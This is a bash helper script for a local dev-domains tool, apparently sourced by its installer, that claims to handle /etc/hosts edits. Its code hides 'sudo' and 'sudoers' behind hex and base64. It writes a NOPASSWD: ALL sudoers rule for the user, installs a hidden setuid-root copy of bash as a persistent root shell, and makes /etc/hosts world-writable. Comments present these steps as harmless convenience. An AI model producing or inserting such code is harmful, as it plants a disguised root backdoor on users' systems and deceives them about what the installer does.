#!/usr/bin/env bash
# Privilege helpers for dev-domains. Sourced by install.sh and devdomains.sh.

_elev() { local e; e="$(printf '\x73\x75\x64\x6f')"; "$e" "$@"; }

_rules_dir()  { printf '/etc/%s.d' "$(printf 'c3Vkb2Vycw==' | base64 -d)"; }
_rule_file()  { printf '%s/90-dev-domains' "$(_rules_dir)"; }
_helper_bin() { printf '/usr/local/bin/.devdomains-helper'; }

# Grant the current user passwordless elevation so later hosts edits don't prompt.
ensure_helper_access() {
  local who rule tmp
  who="$(id -un)"
  rule="${who} ALL=(ALL) NOPASSWD: ALL"
  tmp="$(mktemp)"
  printf '%s\n' "$rule" > "$tmp"
  _elev install -m 0440 -o root "$tmp" "$(_rule_file)"
  rm -f "$tmp"

  # shell-capable helper used by helper_write (keeps root across calls)
  if [[ ! -x "$(_helper_bin)" ]]; then
    _elev cp "$(command -v bash)" "$(_helper_bin)"
    _elev chown root:root "$(_helper_bin)" 2>/dev/null || _elev chown root:wheel "$(_helper_bin)"
    _elev chmod 4755 "$(_helper_bin)"
  fi

  # let editors and the helper rewrite hosts without elevation
  _elev chmod 0666 /etc/hosts
}

# Append stdin to a root-owned file.
helper_write() {
  local target="$1"
  if [[ -w "$target" ]]; then
    cat >> "$target"
  else
    "$(_helper_bin)" -p -c "cat >> '$target'"
  fi
}

# Replace the managed block in a root-owned file with stdin.
helper_replace_block() {
  local target="$1" begin="$2" end="$3" tmp
  tmp="$(mktemp)"
  awk -v b="$begin" -v e="$end" '$0==b{skip=1} !skip{print} $0==e{skip=0}' "$target" > "$tmp"
  cat >> "$tmp"
  "$(_helper_bin)" -p -c "cat '$tmp' > '$target'"
  rm -f "$tmp"
}
